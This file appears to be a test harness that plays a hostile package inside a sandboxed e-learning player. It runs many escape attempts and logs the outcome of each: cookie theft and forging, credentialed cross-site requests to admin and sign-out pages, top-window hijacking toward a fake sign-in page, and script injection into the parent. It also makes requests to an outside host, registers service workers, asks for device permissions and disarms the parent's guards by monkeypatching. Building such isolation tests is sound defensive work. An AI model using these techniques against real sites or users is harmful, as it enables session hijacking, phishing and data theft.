// Everything that a package could try. Each attempt answers "reached", "refused", or "asked" where
// content cannot tell whether anybody was reached. They run side by side, in the content frame.

const WAIT = 1500;

const later = (wait) => new Promise((resolve) => { setTimeout(resolve, wait); });

/** How an element fared that loads something. */
function put(name, attributes, place = document) {
  const element = place.createElement(name);
  const done = new Promise((resolve) => {
    for (const good of ["load", "loadeddata"]) {
      element.addEventListener(good, () => resolve("reached"));
    }
    element.addEventListener("error", () => resolve("refused"));
  });
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  (place.body || place.documentElement).append(element);
  return Promise.race([done, later(WAIT).then(() => "asked")]);
}

/** A frame says "load" of an error's page too; what is in it must not be readable. */
async function framed(name, attributes, place = document) {
  await put(name, attributes, place);
  const window = place.defaultView;
  for (let at = 0; at < window.length; at += 1) {
    try {
      const { href } = window[at].location;
      if (Object.values(attributes).includes(href)) return "reached";
    } catch {} // an error's page, or another origin's: who it is the server would know
  }
  return "asked";
}

async function got(promise) {
  const answer = await promise;
  return answer && answer.status >= 400 ? "refused" : "reached";
}

function xhr(url) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.withCredentials = true;
    request.onload = () => resolve(request.status < 400 ? "reached" : "refused");
    request.onerror = () => resolve("refused");
    request.open("GET", url);
    request.send();
  });
}

function heard(source, name) {
  return new Promise((resolve) => {
    source.addEventListener(name, () => resolve("reached"));
    source.addEventListener("error", () => resolve("refused"));
  });
}

function form(action, target, place = document) {
  const made = place.createElement("form");
  Object.assign(made, { action, target, method: "post" });
  place.body.append(made);
  made.submit();
  return "asked";
}

function click(href, more = {}, place = document) {
  const link = place.createElement("a");
  Object.assign(link, { href, ...more });
  place.body.append(link);
  link.click();
  return "asked";
}

function inWorker(source) {
  const url = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
  const worker = new Worker(url);
  return new Promise((resolve) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => resolve("refused");
  });
}

const tell = (work) =>
  `(async () => { try { ${work}; postMessage("reached"); } catch { postMessage("refused"); } })()`;

/** One that is there already, which it may lead elsewhere. */
function small() {
  const frame = document.createElement("iframe");
  document.body.append(frame);
  return frame.contentWindow;
}

/** A call by something else of this host in a frame, for which its own policy counts, not ours. */
async function through(src, away) {
  const frame = document.createElement("iframe");
  const shown = new Promise((resolve) => { frame.addEventListener("load", resolve); });
  frame.src = src;
  document.body.append(frame);
  await Promise.race([shown, later(WAIT)]);
  return got(frame.contentWindow.fetch(`${away}/through`, { mode: "no-cors" }));
}

/** The same by what answers a form. */
async function throughAnswer(action, away) {
  const frame = document.createElement("iframe");
  frame.name = `answer ${action}`;
  document.body.append(frame);
  const shown = new Promise((resolve) => { frame.addEventListener("load", resolve); });
  form(action, frame.name);
  await Promise.race([shown, later(WAIT)]);
  return got(frame.contentWindow.fetch(`${away}/through`, { mode: "no-cors" }));
}

const ATTEMPTS = {
  // Cookies
  cookiesOfThePage: () => (document.cookie || parent.document.cookie ? "reached" : "refused"),
  cookieStore: async () => ((await cookieStore.getAll()).length ? "reached" : "refused"),
  cookieForAll: () => {
    document.cookie = "tutela-sign-in=forged; Domain=localhost; Path=/";
    return document.cookie.includes("forged") ? "reached" : "refused";
  },

  // The site, where the person is signed in
  siteFetch: ({ site }) => got(fetch(`${site}/learning/`, { credentials: "include" })),
  siteFetchBlind: ({ site }) => got(fetch(`${site}/sign-out`, { method: "POST", mode: "no-cors", credentials: "include" })),
  siteKeepalive: ({ site }) => got(fetch(`${site}/`, { keepalive: true, mode: "no-cors" })),
  siteXhr: ({ site }) => xhr(`${site}/admin/`),
  siteBeacon: ({ site }) => navigator.sendBeacon(`${site}/sign-out`, "") && "asked",
  siteSocket: ({ site }) => heard(new WebSocket(site.replace("http", "ws")), "open"),
  siteEvents: ({ site }) => heard(new EventSource(`${site}/healthz`), "open"),
  siteImage: ({ site }) => put("img", { src: `${site}/static/icon.svg` }),
  siteScript: ({ site }) => put("script", { src: `${site}/static/tutela.js` }),
  siteStyle: ({ site }) => put("link", { rel: "stylesheet", href: `${site}/static/tutela.css` }),
  siteAdmin: ({ site }) => framed("iframe", { src: `${site}/admin/` }),
  siteAdminAudit: ({ site }) => got(fetch(`${site}/admin/audit`, { credentials: "include" })),
  siteObject: ({ site }) => framed("object", { data: `${site}/admin/` }),
  siteEmbed: ({ site }) => framed("embed", { src: `${site}/` }),
  siteForm: ({ site }) => form(`${site}/sign-out`, "hidden"),
  siteWindow: ({ site }) => (window.open(`${site}/admin/`, "fresh") ? "reached" : "refused"),
  siteByRedirect: () => got(fetch("/", { credentials: "include" })),
  siteByRedirectedFrame: () => framed("iframe", { src: "/" }),
  siteByRedirectedImage: () => put("img", { src: "/" }),
  siteOfTheContentHost: () => got(fetch("/admin/")),

  // Another registration
  otherFetch: ({ other, stolen }) => got(fetch(`${other}/${stolen}/play`)),
  otherBlind: ({ other, stolen }) => got(fetch(`${other}/${stolen}/start`, { method: "POST", mode: "no-cors", body: "{}" })),
  otherFrame: ({ other, stolen }) => framed("iframe", { src: `${other}/${stolen}/play` }),
  otherForm: ({ other, stolen }) => form(`${other}/${stolen}/commit`, "hidden"),
  otherImage: ({ other }) => put("img", { src: `${other}/` }),
  stolenPlayer: ({ stolen }) => got(fetch(`/${stolen}/play`)),
  stolenStart: ({ stolen }) => got(fetch(`/${stolen}/start`, { method: "POST", body: '{"session":"-"}' })),
  stolenCommit: ({ stolen }) => got(fetch(`/${stolen}/commit`, { method: "POST", body: '{"entries":[]}' })),
  stolenReport: ({ stolen }) => got(fetch(`/${stolen}/report`, { method: "POST", body: '{"top":"http://a.b"}' })),
  stolenFile: ({ stolen, version }) => got(fetch(`/${stolen}/${version}/page.html`)),
  madeUp: ({ version }) => got(fetch(`/made.up.capability/${version}/page.html`)),

  // Another package's storage
  localStorage: () => (JSON.stringify(localStorage).includes("secret") ? "reached" : "refused"),
  sessionStorage: () => (sessionStorage.getItem("secret") ? "reached" : "refused"),
  databases: async () =>
    ((await indexedDB.databases()).some(({ name }) => name === "secret") ? "reached" : "refused"),
  caches: async () => ((await caches.keys()).includes("secret") ? "reached" : "refused"),
  channel: () => {
    new BroadcastChannel("room").postMessage("heard");
    return "asked";
  },
  domain: () => {
    document.domain = "localhost";
    return document.domain === "localhost" ? "reached" : "refused";
  },
  opener: () => (window.opener || top.opener ? "reached" : "refused"),

  // The top window
  topLocation: ({ away }) => { top.location = `${away}/top`; return "asked"; },
  topAssign: ({ away }) => { parent.location.assign(`${away}/top`); return "asked"; },
  topSite: ({ site }) => { top.location.href = `${site}/admin/`; return "asked"; },
  topFake: () => { top.location.replace(new URL("fake.html", location)); return "asked"; },
  topReload: () => { top.location.reload(); return "asked"; },
  topLink: ({ away }) => click(`${away}/top`, { target: "_top" }),
  topOpen: ({ away }) => { window.open(`${away}/top`, "_top"); return "asked"; },
  topForm: ({ away }) => form(`${away}/top`, "_top"),
  topNavigate: ({ away }) => { parent.navigation.navigate(`${away}/top`).committed.catch(() => {}); return "asked"; },
  topScript: () => { top.location = "javascript:window.taken=1"; return "asked"; },
  topData: () => { top.location = "data:text/html,<p>Sign in"; return "asked"; },
  playerLink: ({ away }) => click(`${away}/top`, {}, parent.document),
  playerDownload: ({ away }) => click(`${away}/top`, { download: "x" }, parent.document),
  playerForm: ({ away }) => form(`${away}/top`, "_self", parent.document),
  playerRefresh: ({ away }) => {
    const meta = parent.document.createElement("meta");
    Object.assign(meta, { httpEquiv: "refresh", content: `0;url=${away}/top` });
    parent.document.head.append(meta);
    return "asked";
  },
  playerFrame: ({ away }) => framed("iframe", { src: `${away}/frame` }, parent.document),
  playerImage: ({ away }) => put("img", { src: `${away}/image` }, parent.document),
  playerInline: () => {
    const script = parent.document.createElement("script");
    script.textContent = "window.taken = true;";
    parent.document.body.append(script);
    return parent.taken ? "reached" : "refused";
  },
  playerScript: () => put("script", { src: new URL("taken.js", location) }, parent.document),
  playerEval: () => { parent.eval("window.taken = true"); return "reached"; },
  playerTimer: () => { parent.setTimeout("window.taken = true"); return "asked"; },
  playerFreshFrame: ({ away }) => {
    const frame = parent.document.createElement("iframe");
    parent.document.body.append(frame);
    frame.contentWindow.eval(`top.location = "${away}/top"`);
    return "reached";
  },

  // The network
  fetch: ({ away }) => got(fetch(`${away}/fetch`, { mode: "no-cors" })),
  xhr: ({ away }) => xhr(`${away}/xhr`),
  beacon: ({ away }) => navigator.sendBeacon(`${away}/beacon`, "x") && "asked",
  socket: ({ away }) => heard(new WebSocket(away.replace("http", "ws")), "open"),
  events: ({ away }) => heard(new EventSource(`${away}/events`), "open"),
  image: ({ away }) => put("img", { src: `${away}/image` }),
  imageInSvg: ({ away }) => {
    const svg = "http://www.w3.org/2000/svg";
    const image = document.createElementNS(svg, "image");
    image.setAttribute("href", `${away}/svg`);
    const holder = document.createElementNS(svg, "svg");
    holder.append(image);
    document.body.append(holder);
    return "asked";
  },
  inputImage: ({ away }) => put("input", { type: "image", src: `${away}/input` }),
  script: ({ away }) => put("script", { src: `${away}/script` }),
  module: ({ away }) => import(`${away}/module.js`).then(() => "reached"),
  style: ({ away }) => put("link", { rel: "stylesheet", href: `${away}/style` }),
  styleImport: ({ away }) => {
    const style = document.createElement("style");
    style.textContent = `@import "${away}/import"; body { background: url("${away}/background") }`;
    document.head.append(style);
    return "asked";
  },
  font: ({ away }) => new FontFace("x", `url(${away}/font)`).load().then(() => "reached"),
  video: ({ away }) => put("video", { src: `${away}/video` }),
  audio: ({ away }) => put("audio", { src: `${away}/audio` }),
  frame: ({ away }) => framed("iframe", { src: `${away}/frame` }),
  frameLed: ({ away }) => { small().location = `${away}/led`; return "asked"; },
  frameRefreshed: ({ away }) =>
    framed("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${away}/refreshed">` }),
  frameNested: ({ away }) => framed("iframe", { srcdoc: `<img src="${away}/nested">` }),
  object: ({ away }) => framed("object", { data: `${away}/object` }),
  embed: ({ away }) => framed("embed", { src: `${away}/embed` }),
  form: ({ away }) => form(`${away}/form`, "hidden"),
  ping: ({ away }) => click("#here", { ping: `${away}/ping` }),
  preconnect: ({ away }) => put("link", { rel: "preconnect", href: away }),
  lookUp: ({ away }) => put("link", { rel: "dns-prefetch", href: away }),
  prefetch: ({ away }) => put("link", { rel: "prefetch", href: `${away}/prefetch` }),
  preload: ({ away }) => put("link", { rel: "preload", as: "script", href: `${away}/preload` }),
  modulePreload: ({ away }) => put("link", { rel: "modulepreload", href: `${away}/preload.js` }),
  manifest: ({ away }) => put("link", { rel: "manifest", href: `${away}/manifest` }),
  speculation: ({ away }) => {
    const script = document.createElement("script");
    script.type = "speculationrules";
    script.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [`${away}/rules`] }] });
    document.head.append(script);
    return "asked";
  },
  worker: ({ away }) => heard(new Worker(`${away}/worker.js`), "message"),
  workerFetch: ({ away }) => inWorker(tell(`await fetch("${away}/w", { mode: "no-cors" })`)),
  workerImport: ({ away }) => inWorker(tell(`importScripts("${away}/i.js")`)),
  sharedWorker: ({ away }) => heard(new SharedWorker(`${away}/shared.js`), "connect"),
  window: ({ away }) => (window.open(`${away}/window`, "fresh") ? "reached" : "refused"),
  throughPicture: ({ away }) => through("picture.png", away),
  throughStyle: ({ away }) => through("style.css", away),
  throughSound: ({ away }) => through("sound.wav", away),
  throughFont: ({ away }) => through("font.woff", away),
  throughText: ({ away }) => through("targets.json", away),
  throughNothing: ({ away }) => through("is-not-here.html", away),
  throughForbidden: ({ away, version }) => through(`/made.up.capability/${version}/page.html`, away),
  throughNoAddress: ({ away }) => through("/nowhere", away),
  throughTooMuch: ({ away }) => through(`/${"x".repeat(1_200_000)}`, away),
  throughPlayersFile: ({ away }) => through(parent.document.querySelector("script[src]").src, away),
  throughRefusal: ({ away }) => throughAnswer(location.pathname.replace(/^(.[^/]*).*/, "$1/commit"), away),
  address: ({ away }) => { history.pushState(null, "", `${away}/address`); return "reached"; },

  // A service worker
  serviceWorker: () => navigator.serviceWorker.register("worker.js").then(() => "reached"),
  serviceWorkerModule: () =>
    navigator.serviceWorker.register("worker.js", { type: "module" }).then(() => "reached"),
  serviceWorkerOfAll: () =>
    navigator.serviceWorker.register("worker.js", { scope: "/" }).then(() => "reached"),
  serviceWorkerOfThePlayer: () =>
    parent.navigator.serviceWorker.register(new URL("worker.js", location)).then(() => "reached"),
  serviceWorkerOfTheHost: () =>
    navigator.serviceWorker.register(new URL("/sw.js", location)).then(() => "reached"),

  // What the person would have to be asked for
  place: () => new Promise((resolve) => {
    navigator.geolocation.getCurrentPosition(() => resolve("reached"), () => resolve("refused"));
  }),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "reached"),
  microphone: () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => "reached"),
  screen: () => navigator.mediaDevices.getDisplayMedia().then(() => "reached"),
  clipboard: () => navigator.clipboard.readText().then(() => "reached"),
  notices: async () => ((await Notification.requestPermission()) === "granted" ? "reached" : "refused"),
  fullscreen: () => document.documentElement.requestFullscreen().then(() => "reached"),
  usb: () => navigator.usb.requestDevice({ filters: [] }).then(() => "reached"),
};

/** Take away what a guard could lean on, then try again. */
function disarm() {
  const { prototype } = parent.NavigateEvent;
  parent.Event.prototype.preventDefault = () => {};
  for (const name of ["destination", "navigationType", "downloadRequest"]) {
    Object.defineProperty(prototype, name, { get: () => null });
  }
  parent.Reflect.apply = () => true;
  parent.String.prototype.startsWith = () => true;
  parent.navigation.addEventListener("navigate", (event) => event.stopImmediatePropagation());
}

async function fares(name, targets) {
  try {
    return [name, await Promise.race([ATTEMPTS[name](targets), later(2 * WAIT).then(() => "asked")])];
  } catch {
    return [name, "refused"];
  }
}

/** What came of each, by name, said in the console: nobody has clicked anything, or will. */
async function attack() {
  const targets = await (await fetch("targets.json")).json();
  const hidden = document.createElement("iframe");
  hidden.name = "hidden";
  document.body.append(hidden);
  const found = await Promise.all(Object.keys(ATTEMPTS).map((name) => fares(name, targets)));
  disarm();
  found.push(["disarmed", (await fares("topAssign", targets))[1]]);
  found.push(["disarmedLink", (await fares("playerLink", targets))[1]]);
  console.log(`outcomes ${JSON.stringify(Object.fromEntries(found))}`);
}

attack();
